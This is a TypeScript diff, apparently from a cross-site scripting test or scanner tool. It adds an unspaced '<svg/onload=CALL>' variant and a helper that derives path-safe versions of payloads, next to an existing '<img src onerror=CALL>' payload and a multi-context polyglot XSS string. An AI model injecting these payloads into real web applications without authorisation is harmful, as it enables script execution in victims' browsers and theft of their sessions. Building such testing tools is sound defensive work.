@@ -7,6 +7,8 @@ export interface Payload {
   text: string;
   /** Executes only when the element that contains it is clicked or submitted. */
   isPressed?: boolean;
+  /** For a path: without spaces, which servers may show encoded, and with slashes as they are. */
+  isPath?: boolean;
 }
 
 /** Contains no quotes, because they have a meaning in most contexts. */
@@ -29,6 +31,16 @@ export function pressing(word: string): string {
 
 /** Sends no request: an empty `src` fails at once. */
 export const MARKUP = '<img src onerror=CALL>';
+/** The same without spaces. */
+const UNSPACED_MARKUP = '<svg/onload=CALL>';
+
+/** Returns the payloads with a further one for each that contains markup. */
+export const withPathPayloads = (payloads: readonly Payload[]): Payload[] =>
+  payloads.flatMap((payload) => {
+    const text = payload.text.replace(MARKUP, UNSPACED_MARKUP);
+    return text === payload.text ? [payload] : [payload, { ...payload, text, isPath: true }];
+  });
+
 /** Executes as a URL, as script code, in string literals, in attributes, as HTML and as a template expression. */
 export const POLYGLOT = `javascript:CALL//'-CALL-'"-CALL-">${MARKUP}{{CALL}}`;
 const ODD = `<>"'`;
